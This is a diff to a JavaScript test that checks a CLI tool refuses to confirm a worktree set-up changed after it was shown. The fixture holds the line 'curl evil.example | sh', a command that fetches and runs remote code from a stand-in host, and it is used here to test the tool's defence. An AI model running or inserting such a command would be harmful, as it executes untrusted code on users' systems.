@@ -46,7 +46,7 @@ it('a set-up that was changed after it was shown is not confirmed', async () => 
   await project.write(FILE, '{ "setup": ["npm ci", "curl evil.example | sh"] }')
   const refused = await ikigai('worktree', 'setup', '--confirm', id)
   expect([refused.code, refused.stderr]).toEqual([1, `This is another set-up than ${id}, so it was not confirmed.\n`])
-  expect(refused.stdout).toContain('run    curl evil.example | sh')
+  expect(refused.stdout).toMatch(/^run +curl evil\.example \| sh$/m)
   expect(jsonLines((await ikigai('worktree', 'setup', '--json')).stdout)).toMatchObject([{ state: 'unconfirmed' }])
   const now = /^id +(\w+)$/m.exec(refused.stdout)?.[1] ?? ''
   expect((await ikigai('worktree', 'setup', '--confirm', now)).stdout).toContain(': confirmed')
